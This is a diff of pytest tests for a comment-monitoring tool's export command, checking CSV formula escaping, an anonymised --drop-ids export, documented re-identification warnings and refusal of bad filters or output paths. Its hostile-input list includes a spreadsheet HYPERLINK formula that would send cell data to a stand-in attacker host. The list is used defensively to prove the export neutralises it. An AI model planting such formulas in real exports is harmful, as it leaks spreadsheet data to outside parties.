@@ -5,8 +5,12 @@ from __future__ import annotations
 import csv
 
 import pyarrow.parquet as pq
+import pytest
+from sqlalchemy import select, update
 
 from monitor.metrics.rollups import rebuild
+from monitor.store.db import transaction
+from monitor.store.models import Comment, Score
 
 from conftest import civmon
 from seed import DAY, MODEL, MONDAY, Seed, seed
@@ -68,3 +72,153 @@ def test_metrics_command_refreshes_rollups(engine, db_url, tmp_path):
     result = civmon_on(tmp_path, db_url, "metrics")
     assert result.returncode == 0, result.stderr
     assert f"rollups for {MODEL}:" in result.stdout and "0 new alerts" in result.stdout
+
+
+# Text cells a spreadsheet runs as formulas (OWASP's list), and a quote, which would be ambiguous otherwise
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "'=1"]
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def seed_hostile(engine):
+    """One comment per hostile text, carrying it in every text column the internet fills: ids, author, body,
+    permalink, language and skip reason; scored hostile, so its alliance index is negative."""
+    ids = [f"{text[:24]}#{i}" for i, text in enumerate(HOSTILE)]
+    seed(
+        engine,
+        [Seed(cid, MONDAY + i, 0.9, thread=cid, author=cid, respect=0.1, warmth=0.2) for i, cid in enumerate(ids)],
+    )
+    with transaction(engine) as session:
+        for cid, text in zip(ids, HOSTILE, strict=True):
+            comment = session.scalars(select(Comment).where(Comment.platform_id == cid)).one()
+            comment.body, comment.permalink = text, text
+            session.execute(
+                update(Score).where(Score.comment_id == comment.id).values(language=text[:16], skip_reason=text)
+            )
+    rebuild(engine, MODEL)
+    return ids
+
+
+def test_csv_cells_cannot_run_as_formulas(engine, db_url, tmp_path):
+    ids = seed_hostile(engine)
+    result = civmon_on(tmp_path, db_url, "export", "--out", "out")
+    assert result.returncode == 0, result.stderr
+    out = tmp_path / "out"
+    for name in ("comments", "rollups"):
+        with (out / f"{name}.csv").open(newline="", encoding="utf-8") as handle:
+            rows = list(csv.DictReader(handle))
+        raw = pq.read_table(out / f"{name}.parquet")  # Parquet keeps the raw text
+        text = {f.name for f in raw.schema if f.type == "string"}
+        assert rows and all(not row[c].startswith(TRIGGERS) for row in rows for c in text)
+        assert [float(row[c]) for row in rows for c in set(row) - text if row[c]]  # the rest are numbers
+        for row, original in zip(rows, raw.to_pylist(), strict=True):  # one ' off gives back the exact text
+            assert {c: row[c][1:] if row[c].startswith("'") else row[c] for c in text} == {
+                c: original[c] or "" for c in text
+            }
+    with (out / "comments.csv").open(newline="", encoding="utf-8") as handle:
+        comments = list(csv.DictReader(handle))
+    assert {r["body"] for r in comments} == {"'" + text for text in HOSTILE}
+    assert {r["comment_id"] for r in comments} == {"'" + cid for cid in ids}
+    assert all(float(r["alliance"]) == pytest.approx(-0.75) and float(r["hostility"]) == 0.9 for r in comments)
+    assert "CSV injection" in (out / "DATA_DICTIONARY.md").read_text()
+
+
+def seed_threads(engine):
+    """Two threads, a reply and a reply to it; times off the hour; permalinks as a collector stores them."""
+    seed(
+        engine,
+        [
+            Seed("c0", MONDAY + 61, 0.2, author="ann"),
+            Seed("r1", MONDAY + 3_700, 0.4, parent="c0", depth=1, author="bob"),
+            Seed("r2", MONDAY + 7_322, 0.6, parent="r1", depth=2, author="ann"),
+            Seed("d0", MONDAY + 90, 0.1, thread="t2", author="cat"),
+        ],
+    )
+    with transaction(engine) as session:
+        session.execute(update(Comment).values(permalink="https://reddit.com/r/seeded/comments/" + Comment.platform_id))
+
+
+def comments_csv(folder):
+    with (folder / "comments.csv").open(newline="", encoding="utf-8") as handle:
+        return list(csv.DictReader(handle))
+
+
+def test_drop_ids_exports_nothing_that_leads_back_to_a_comment(engine, db_url, tmp_path):
+    seed_threads(engine)
+    for out in ("a", "b"):
+        result = civmon_on(tmp_path, db_url, "export", "--out", out, "--drop-ids")
+        assert result.returncode == 0, result.stderr
+    rows = comments_csv(tmp_path / "a")
+    assert "permalink" not in rows[0] and "body" not in rows[0]
+    cells = {v for r in rows for v in r.values()}
+    assert not cells & {"c0", "r1", "r2", "d0", "t1", "t2", "ann", "bob", "cat"}
+    assert all(int(r["created_utc"]) % 3600 == 0 for r in rows)
+    # the structure survives: replies point at their parents, top-level comments at their threads, one author one id
+    by_depth = {int(r["depth"]): r for r in rows if r["thread_id"] == rows[0]["thread_id"]}
+    assert by_depth[0]["parent_id"] == by_depth[0]["thread_id"]
+    assert (
+        by_depth[1]["parent_id"] == by_depth[0]["comment_id"] and by_depth[2]["parent_id"] == by_depth[1]["comment_id"]
+    )
+    assert by_depth[0]["author"] == by_depth[2]["author"] != by_depth[1]["author"]
+    assert len({r["thread_id"] for r in rows}) == 2 and len({r["author"] for r in rows}) == 3
+    # and links to nothing outside this export, not even to another export of the same data
+    assert not {r["comment_id"] for r in rows} & {r["comment_id"] for r in comments_csv(tmp_path / "b")}
+    parquet = pq.read_table(tmp_path / "a" / "comments.parquet")
+    assert "permalink" not in parquet.column_names and set(parquet.column("comment_id").to_pylist()).isdisjoint(
+        {"c0", "r1", "r2", "d0"}
+    )
+    assert "`--drop-ids`, for sharing" in (tmp_path / "a" / "DATA_DICTIONARY.md").read_text()
+
+
+def test_an_export_to_keep_says_which_columns_re_identify(engine, db_url, tmp_path):
+    seed_threads(engine)
+    result = civmon_on(tmp_path, db_url, "export", "--out", "out")
+    assert result.returncode == 0, result.stderr
+    rows = comments_csv(tmp_path / "out")
+    assert {r["comment_id"] for r in rows} == {"c0", "r1", "r2", "d0"} and rows[0]["permalink"].startswith("https://")
+    dictionary = (tmp_path / "out" / "DATA_DICTIONARY.md").read_text()
+    assert "`comment_id`, `thread_id`, `parent_id` and `permalink` re-identify an author with one lookup" in dictionary
+    assert "--drop-ids" in dictionary
+
+
+@pytest.mark.parametrize(
+    ("args", "said"),
+    [
+        (["--community", "nosuch"], ["no community nosuch", "stored communities: reddit/seeded"]),
+        (["--community", "seeded", "--community", "nosuch"], ["no community nosuch", "reddit/seeded"]),
+        (["--since", "2023-11-22", "--until", "2023-11-21"], ["is not before --until", "swap them"]),
+        (["--since", "2023-11-21", "--until", "2023-11-21"], ["is not before --until"]),
+        (["--model-version", "nosuch"], ["model version nosuch scored no comment", f"versions with scores: {MODEL}"]),
+        (["--since", "2030-01-01"], ["no comments in the period", "run from 2023-11-20 00:00 UTC to 2023-11-21"]),
+        (["--until", "2020-01-01"], ["no comments in the period", "run from 2023-11-20"]),
+    ],
+)
+def test_filters_that_match_nothing_are_refused_with_what_exists(engine, db_url, tmp_path, args, said):
+    seeded(engine)
+    (tmp_path / "out").mkdir()
+    (tmp_path / "out" / "comments.csv").write_text("an earlier export\n")
+    result = civmon_on(tmp_path, db_url, "export", "--out", "out", *args)
+    assert result.returncode == 2 and "Traceback" not in result.stderr
+    assert all(s in result.stderr for s in said), result.stderr
+    assert [p.name for p in (tmp_path / "out").iterdir()] == ["comments.csv"]
+    assert (tmp_path / "out" / "comments.csv").read_text() == "an earlier export\n"
+
+
+@pytest.mark.parametrize(
+    ("out", "said"), [("taken", "--out taken is a file"), ("taken/sub", "cannot create the folder")]
+)
+def test_an_out_that_is_not_a_folder_is_refused(engine, db_url, tmp_path, out, said):
+    seeded(engine)
+    (tmp_path / "taken").write_text("keep me\n")
+    result = civmon_on(tmp_path, db_url, "export", "--out", out)
+    assert result.returncode == 2 and "Traceback" not in result.stderr and said in result.stderr, result.stderr
+    assert (tmp_path / "taken").read_text() == "keep me\n"
+
+
+def test_an_export_replaces_the_previous_one_whole(engine, db_url, tmp_path):
+    seed(engine, [Seed("c0", MONDAY, 0.3)])  # no rollups yet: their files still come, with a header
+    assert civmon_on(tmp_path, db_url, "export", "--out", "out").returncode == 0
+    result = civmon_on(tmp_path, db_url, "export", "--out", "out", "--format", "csv", "--drop-ids")
+    assert result.returncode == 0, result.stderr
+    names = sorted(p.name for p in (tmp_path / "out").iterdir())
+    assert names == ["DATA_DICTIONARY.md", "comments.csv", "rollups.csv"]  # no parquet of the earlier export
+    assert (tmp_path / "out" / "rollups.csv").read_text().startswith('"community","bucket"')
